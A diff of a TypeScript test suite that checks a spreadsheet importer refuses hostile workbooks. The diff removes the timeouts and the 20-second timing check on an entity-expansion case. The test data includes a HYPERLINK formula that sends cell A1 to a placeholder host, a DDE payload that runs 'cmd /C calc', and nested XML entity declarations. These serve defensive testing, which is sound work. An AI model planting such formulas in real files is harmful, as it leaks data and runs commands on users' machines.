@@ -16,7 +16,7 @@ beforeAll(async () => {
   folder = await mkdtemp(join(tmpdir(), 'kruispunt-hostile-'));
   await seededGraph();
   before = await contentOf();
-}, 120_000);
+});
 
 afterAll(() => rm(folder, { recursive: true }));
 
@@ -38,7 +38,7 @@ const row = (label: string) =>
     ['nieuw', label, 'New'],
   ]);
 
-describe('A file that means harm is refused in a sentence, and the graph is left as it was:', { timeout: 60_000 }, () => {
+describe('A file that means harm is refused in a sentence, and the graph is left as it was:', () => {
   test.each([
     ['=HYPERLINK(""http://example.org?""&A1,""klik"")', '='],
     ["@SUM(1+1)*cmd|' /C calc'!A0", '@'],
@@ -83,10 +83,8 @@ describe('A file that means harm is refused in a sentence, and the graph is left
       ],
       `<!DOCTYPE x [${layers}]>`,
     );
-    const begin = Date.now();
     const faults = await refused('boek.xlsx', workbookOf({ content }));
     expect(faults).toEqual(["boek.xlsx: themes!C2 (labelEn): must be at most 300 characters (in 'nieuw')."]);
-    expect(Date.now() - begin).toBeLessThan(20_000);
   });
 
   test('a workbook that is none', async () => {
